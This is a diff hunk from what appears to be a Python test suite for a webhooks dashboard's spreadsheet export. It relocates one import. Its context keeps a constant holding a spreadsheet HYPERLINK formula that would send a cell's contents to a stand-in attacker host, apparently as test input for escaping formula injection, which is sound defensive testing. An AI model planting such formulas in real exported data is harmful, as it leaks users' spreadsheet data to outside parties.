@@ -20,10 +20,10 @@ from bridges.store.store import Store
 from bridges.store.tiers import CategorySecurity
 from bridges.store.watching import Activity, WatchRecords
 from policies.tiers import Tier
+from sandbox.forum import SandboxForum
 from tests.webhooks.test_dashboard import SECRET, dashboard_config, sign_in
 from webhooks.app import create_app
 from webhooks.dashboard import spreadsheet_cell
-from webhooks.sandbox.forum import SandboxForum
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"rent")'
 
